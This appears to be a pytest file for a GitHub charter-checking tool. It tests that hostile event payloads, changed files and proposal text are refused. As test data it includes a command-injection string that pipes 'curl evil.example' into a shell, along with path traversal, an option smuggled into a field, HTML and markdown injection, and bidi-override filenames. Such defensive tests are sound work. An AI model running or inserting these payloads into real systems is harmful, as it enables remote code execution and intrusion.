"""The answers to what happens where the charter is kept: honest payloads, hostile ones, and hostile files."""

from __future__ import annotations

import json
import time
import tracemalloc
from dataclasses import replace

import pytest

from charterpress import forges
from charterpress.forges.changed_files import MAX_FILES
from charterpress.forges.github import events
from charterpress.forges.published import changed_digests
from charterpress.model import Finding, Severity
from charterpress.text.escape import escape_markdown
from charterpress.text.markdown import to_html
from recorded import changed, payload

PULL, ISSUE, RUN = "pull_request.opened", "issues.opened", "workflow_run.completed"
SHELL = '"; curl evil.example | sh #'
HEAD = payload(PULL)["pull_request"]["head"]["sha"]
read_issue = events.read_issue_event


# --- Payloads ----------------------------------------------------------------------------------------


def test_a_payload_gives_no_more_than_is_needed():
    """No title, no branch and no name of a person is taken."""
    asked = events.read_proposal(changed(PULL))
    assert asked == forges.Proposal(
        number=12,
        repository="harbour-partners/charter",
        base="f95f852bd8fca8fcc58a9a2d6c842781e32a215e",
        head="ec26c3e57ca3a959ca5aad62de7213c562f8c821",
    )
    own = changed(PULL, pull_request__head__repo__full_name="harbour-partners/charter")
    assert events.read_proposal(own) == replace(asked, maintained=True)
    form = read_issue(changed(ISSUE))
    assert (form.number, form.labels) == (31, ("sign-up",))
    assert form.body.startswith("### Name of your organisation\n")


BAD_PULLS = {
    "no JSON": (b"{", "event-malformed"),
    "no text": (b"\xff\xfe{}", "event-malformed"),
    "deep": (b"[" * 100_000, "event-malformed"),
    "a member twice": (b'{"action":"opened","action":"closed"}', "event-malformed"),
    "a list": (b"[]", "event-kind"),
    "an issue": (changed(ISSUE), "event-kind"),
    "a schedule": (changed("schedule"), "event-kind"),
    "started by hand": (changed("workflow_dispatch"), "event-kind"),
    "closed": (changed(PULL, action="closed"), "event-action"),
    "an action of no kind": (changed(PULL, action=["opened"]), "event-action"),
    "a branch for a commit": (changed(PULL, pull_request__head__sha="main"), "event-commit"),
    "an option for a commit": (changed(PULL, pull_request__base__sha="--output=x"), "event-commit"),
    "a command for a commit": (changed(PULL, pull_request__head__sha=SHELL), "event-commit"),
    "a commit and a line": (changed(PULL, pull_request__head__sha="a" * 40 + "\n"), "event-commit"),
    "a text for a number": (changed(PULL, number="12"), "event-number"),
    "two numbers": (changed(PULL, number=13), "event-number"),
    "true for a number": (changed(PULL, number=True, pull_request__number=True), "event-number"),
    "below zero": (changed(PULL, number=-1, pull_request__number=-1), "event-number"),
    "no head": (changed(PULL, pull_request__head=None), "event-form"),
    "a path for a repository": (changed(PULL, repository__full_name="../../etc"), "event-repository"),
    "a mark for a repository": (changed(PULL, repository__full_name="a/b)[x](evil"), "event-repository"),
    "a number beyond all": (changed(PULL, number=2**60, pull_request__number=2**60), "event-number"),
    "a run that goes on": (changed(RUN, action="requested"), "event-action"),
    "a run of no repository": (changed(RUN, workflow_run__head_repository=None), "event-form"),
    "a run of another host": (
        changed(RUN, workflow_run__head_repository__full_name="https://evil.example/a/b"),
        "event-repository",
    ),
    "a run as text": (changed(RUN, workflow_run="x"), "event-kind"),
    "huge": (changed(PULL, pull_request__body="x" * 6_000_000), "event-large"),
}
BAD_LISTS = {
    "a pull request of another repository": ({"1__0__base__repo__full_name": "../x"}, "event-repository"),
    "a pull request without a number": ({"1__0__number": "12"}, "event-number"),
    "a pull request without a commit": ({"1__0__base__sha": "main"}, "event-commit"),
    "a pull request without a head": ({"1__0__head": []}, "event-form"),
}
BAD_ISSUES = {
    "a pull request": (changed(PULL), "event-kind"),
    "a pull request as an issue": (changed(ISSUE, issue__pull_request={}), "event-kind"),
    "a list for a text": (changed(ISSUE, issue__body=["x"]), "event-form"),
    "a long text": (changed(ISSUE, issue__body="x" * 65_537), "event-large"),
    "labels of no kind": (changed(ISSUE, issue__labels="sign-up"), "event-form"),
    "a path for a number": (changed(ISSUE, issue__number="../31"), "event-number"),
    "a closed form": (changed(ISSUE, action="closed"), "event-action"),
}
HOSTILE = {
    **{case: (events.read_proposal, [data], rule) for case, (data, rule) in BAD_PULLS.items()},
    **{f"form: {case}": (read_issue, [data], rule) for case, (data, rule) in BAD_ISSUES.items()},
    **{
        case: (events.read_proposal, [changed(RUN), changed("pulls", **values)], rule)
        for case, (values, rule) in BAD_LISTS.items()
    },
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_payload_is_refused_by_name(case):
    read, arguments, rule = HOSTILE[case]
    with pytest.raises(forges.EventError) as refused:
        read(*arguments)
    assert refused.value.name == rule


def test_the_pull_request_is_found_for_which_a_workflow_ran():
    """By branch and repository, since the payload does not name the one of a fork; and as it stands now, for
    this run may take the place of one that waits for commits just pushed."""
    listed, asked = changed("pulls"), events.read_proposal(changed(PULL))
    assert events.read_proposal(changed(RUN), listed) == asked
    moved_on = changed("pulls", **{"1__0__head__sha": "2" * 40})
    assert events.read_proposal(changed(RUN), moved_on) == replace(asked, head="2" * 40)
    assert events.read_proposal(changed(RUN)) is None


NOT_THEIRS = {
    "another branch of that commit": {"1__0__head__ref": "elsewhere"},
    "another fork of that commit": {"1__0__head__repo__full_name": "eve/charter"},
    "a fork that was deleted": {"1__0__head__repo": None},
}


@pytest.mark.parametrize("case", NOT_THEIRS)
def test_no_other_pull_request_is_answered_for_a_run(case):
    """One that shows the same commit from elsewhere takes nobody's place."""
    assert events.read_proposal(changed(RUN), changed("pulls", **NOT_THEIRS[case])) is None


def test_a_list_takes_little_memory_whatever_it_holds():
    """Empty objects take thirty times the memory of their letters; commas in what people write take none."""
    tracemalloc.start()
    try:
        with pytest.raises(
            forges.EventError, match=r"event-large: the payload has more than 1,000,000 values"
        ):
            events.find_earlier(b"[" + b"{}," * (events.MAX_LIST_BYTES // 3 - 1) + b"1]", "this week")
        assert tracemalloc.get_traced_memory()[1] < 100_000_000
    finally:
        tracemalloc.stop()
    said = [{"body": ',[{\\"' * 10_000} for _ in range(60)]
    assert events.find_earlier(json.dumps(said).encode(), "this week") is None


def test_the_newest_site_of_a_commit_is_linked():
    """By numbers alone: whoever proposes something names artifacts as they like, of their own commits."""
    runs = "https://github.com/a/b/actions/runs"
    assert events.preview_url(changed("artifacts"), "a/b", HEAD) == f"{runs}/9100000123/artifacts/3300000456"
    for other in ({"expired": True}, {"name": "tests"}, {"workflow_run": None}):
        artifacts = changed("artifacts", **{f"artifacts__0__{key}": value for key, value in other.items()})
        assert events.preview_url(artifacts, "a/b", HEAD).endswith("/3300000111")
    assert events.preview_url(changed("artifacts"), "a/b", "3" * 40) == ""
    for wrong in ({"artifacts": "x"}, {"artifacts__0__id": "../1"}, {"artifacts__0__workflow_run__id": -1}):
        with pytest.raises(forges.EventError):
            events.preview_url(changed("artifacts", **wrong), "a/b", HEAD)


# --- Files -------------------------------------------------------------------------------------------

FILE = "100644"
BAD_FILES = {
    "a workflow with words": (".github/workflows/check.yml", {}, "machine-and-words"),
    "the tool with words": ("hooks/events.py", {}, "machine-and-words"),
    "a template with words": ("overrides/main.html", {}, "machine-and-words"),
    "the settings with words": ("mkdocs.yml", {}, "machine-and-words"),
    "what is installed, with words": ("requirements.txt", {}, "machine-and-words"),
    "a program that prepares, with words": (".ci/setup", {}, "machine-and-words"),
    "what git does to files, in the charter": ("charter/themes/.gitattributes", {}, "machine-and-words"),
    "where git finds files": ("charter/.lfsconfig", {}, "machine-and-words"),
    "repositories of others": ("docs/.gitmodules", {}, "machine-and-words"),
    "a program beside the pages": ("docs/developers/x.py", {}, "machine-and-words"),
    "a page at the top that is none": ("conftest.py", {}, "machine-and-words"),
    "the way out of lost addresses": (".github/addresses-given-up.txt", {}, "machine-and-words"),
    "a file kept elsewhere": (
        "charter/themes/x.md",
        {"start": b"version https://git-lfs.github.com/spec/v1\noid sha256:0\n"},
        "lfs-pointer",
    ),
    "a short name of Windows": ("charter/GIT~1/hooks/x.md", {}, "name-outside"),
    "a space at the end": ("charter/themes/x.md ", {}, "name-reserved"),
    "what git does to files": (".gitattributes", {}, "machine-and-words"),
    "a link": ("charter/themes/x.md", {"mode": "120000"}, "symlink"),
    "the folder as a link": ("charter", {"mode": "120000"}, "symlink"),
    "a repository": ("charter/themes/sub", {"mode": "160000"}, "submodule"),
    "a path upwards": ("charter/../../etc/x.md", {}, "name-outside"),
    "a path from the top": ("/etc/x.md", {}, "name-outside"),
    "git's folder": ("charter/.GIT/config", {}, "name-outside"),
    "a device of Windows": ("charter/themes/aux.md", {}, "name-reserved"),
    "a dot at the end": ("charter/themes/x.md.", {}, "name-reserved"),
    "a stream of Windows": ("charter/themes/x.md:y", {}, "name-reserved"),
    "a name turned round": ("charter/themes/\u202egpj.md", {}, "name-hidden"),
    "a name with a line": ("charter/themes/x\ny.md", {}, "name-hidden"),
    "a name that is no text": ("charter/themes/\udcff.md", {}, "name-hidden"),
    "a long name": ("charter/themes/" + "x" * 250 + ".md", {}, "name-long"),
    "a large file": ("docs/x.md", {"size": 2_000_000}, "file-large"),
    "a file that is no text": ("charter/themes/x.md", {"start": b"\0"}, "file-binary"),
    "a picture in the charter": ("charter/x.png", {"start": b"\0"}, "file-binary"),
    "another case": ("charter/Preamble.md", {}, "name-case"),
    "another case of a folder": ("charter/THEMES/x.md", {}, "name-case"),
    "an accent written otherwise": ("docs/cafe\u0301.md", {}, "name-case"),
    "somebody's entry": ("charter/signatories/x.yml", {"before": FILE}, "entry-changed"),
}
THERE = ("charter/preamble.md", "charter/themes/tides/index.md", "docs/caf\u00e9.md")


@pytest.mark.parametrize("case", BAD_FILES)
def test_a_hostile_file_is_refused_by_name(case):
    """With its path, and in one line."""
    path, values, rule = BAD_FILES[case]
    words = forges.ChangedFile(path="charter/charter.yml", mode=FILE, before=FILE)
    file = forges.ChangedFile(**{"path": path, "mode": FILE, **values})
    found = forges.check_changed_files([words, file], "charter", THERE)
    assert (path, rule) in [(finding.path, finding.rule) for finding in found]
    assert {finding.path for finding in found} == {path}


@pytest.mark.serial
def test_a_name_of_very_many_folders_is_judged_at_once():
    """It is refused for its length; each of its folders was once held against all other names."""
    start = time.process_time()
    found = forges.check_changed_files(
        [forges.ChangedFile(path="a/" * 30_000 + "b", mode="100644")], "charter"
    )
    assert "name-long" in {each.rule for each in found}
    assert time.process_time() - start < 1


def test_an_honest_proposal_is_not_refused():
    words = [
        forges.ChangedFile(path=f"charter/{name}", mode=FILE)
        for name in ("themes/tides/x.md", "changes/why.md")
    ]
    pages = [forges.ChangedFile(path=path, mode=FILE, before=FILE) for path in ("docs/about.md", "README.md")]
    assert forges.check_changed_files([*words, *pages], "charter", THERE) == ()
    wheel = {"path": "wheels/charterpress-2.0.0-py3-none-any.whl", "size": 2_000_000, "start": b"PK\0"}
    for values in ({"path": "mkdocs.yml"}, wheel):
        (machine,) = forges.check_changed_files([forges.ChangedFile(mode=FILE, **values)], "charter", THERE)
        assert (machine.rule, machine.severity) == ("machine", Severity.WARNING)
    many = [forges.ChangedFile(path=f"docs/{place}.md", mode=FILE) for place in range(MAX_FILES + 1)]
    assert [finding.rule for finding in forges.check_changed_files(many, "charter")] == ["files-many"]


# --- Words -------------------------------------------------------------------------------------------

ACTING = (
    *(
        "@everyone",
        "#1",
        "GH-1",
        "<img src=x onerror=1>",
        "![x](https://evil.example/x.png)",
        "[x](javascript:1)",
    ),
    *("https://evil.example/x", "www.evil.example", "</details><!-- charter: what this changes -->"),
    *("`x` **y** ~~z~~ |a|b|", "line\n# heading\n- item", "\u202eturned"),
    "0123456789abcdef0123456789abcdef01234567",
)


@pytest.mark.parametrize("words", ACTING)
def test_no_word_of_a_proposal_acts(words):
    said = escape_markdown(words)
    html = to_html(said)
    assert html.count("<") == 2  # the paragraph alone
    assert "://" not in said
    assert "www." not in said
    for mark in ("@e", "#1", "GH-1", "GH\\-1", "\u202e", words[:7] if words.isalnum() else "\u202e"):
        assert not said.replace("\\@", "@").replace("\\#", "#").startswith(mark)


def finding(**values):
    """An error in a file."""
    known = {"path": "charter/x.md", "line": 1, "column": 1, "severity": Severity.ERROR, "rule": "html"}
    return Finding(**{**known, "message": "m", "fix": "f", **values})


def test_a_long_answer_is_cut_with_a_sentence():
    told = forges.CommentContent(
        outcome=["x"], changes="word \n" * 40_000, findings=[finding(path="p" * 99)] * 90
    )
    said = forges.comment_body(told)
    assert len(said) <= forges.MAX_COMMENT
    assert said.endswith("The check of this proposal shows all of it.*\n")
    assert "- and 50 more\n" in said


def test_only_the_robots_own_comment_is_brought_up_to_date():
    """Anybody can write the mark, and the robot can quote it."""
    mark = forges.MARK.format("what this changes")
    bot = {"login": "github-actions[bot]", "type": "Bot"}
    theirs = [
        {"id": 1, "user": {"login": "github-actions[bot]", "type": "User"}, "body": mark},
        {"id": 2, "user": {"login": "eve", "type": "Bot"}, "body": mark},
        {"id": 3, "user": bot, "body": f"> {mark}"},
        {"id": 4, "user": None, "body": mark},
        "x",
    ]
    assert events.find_earlier(json.dumps(theirs).encode(), "what this changes") is None
    pages = json.dumps([theirs, [{"id": 5, "number": None, "user": bot, "body": f"{mark}\nx"}]]).encode()
    assert events.find_earlier(pages, "what this changes") == 5
    with pytest.raises(forges.EventError):
        events.find_earlier(b"<html>", "what this changes")


# --- Addresses ---------------------------------------------------------------------------------------


def test_a_published_address_is_not_lost():
    now = forges.site_addresses(["index.html", "versions/1.0.0/index.html", "assets/x.css", "charter.json"])
    assert now == ("", "charter.json", "versions/1.0.0/")
    before = "charter.json\nversions/1.0.0/\nversions/0.1.0/\nold/\nassets/y.css\n"
    assert forges.lost_addresses(before, now, "# gone\nold/ # never linked\n") == ("versions/0.1.0/",)
    assert forges.lost_addresses("versions/compare/0.1.0..1.0.0/\nversions/compare/\n", now) == (
        "versions/compare/",
    )


def test_a_published_digest_still_holds():
    one, two = "a" * 64, "b" * 64
    now = {"1.0.0/charter.json": one, "1.1.0/charter.json": two}
    said = {
        f"{one}  1.0.0/charter.json\n": [],
        f"{two}  1.0.0/charter.json\n": [
            f"1.0.0/charter.json was published with the digest {two}, and would have {one}"
        ],
        f"{one}  0.9.0/charter.json\n": ["0.9.0/charter.json was published, and is missing"],
        "<html>\n": ["the published SHA256SUMS has a line that is none: <html>"],
    }
    for published, faults in said.items():
        assert list(changed_digests(published, lambda path: now.get(path, ""))) == faults


@pytest.mark.parametrize(
    "site",
    [
        *("", "http://a.org/", "https://good.example/", "https://example/", "file:///x", "https://a .org/"),
        *("https://[::1/", "https://a.org:x/", "https://me@a.org/", "https://a..org/", "https://a.org/?x"),
    ],
)
def test_a_site_is_not_published_where_none_can_be(site):
    """The default is a name that nobody has."""
    forges.require_public_url("https://bücher.a-b.org:8443/our/charter/")
    with pytest.raises(Exception, match="SITE_URL"):
        forges.require_public_url(site)
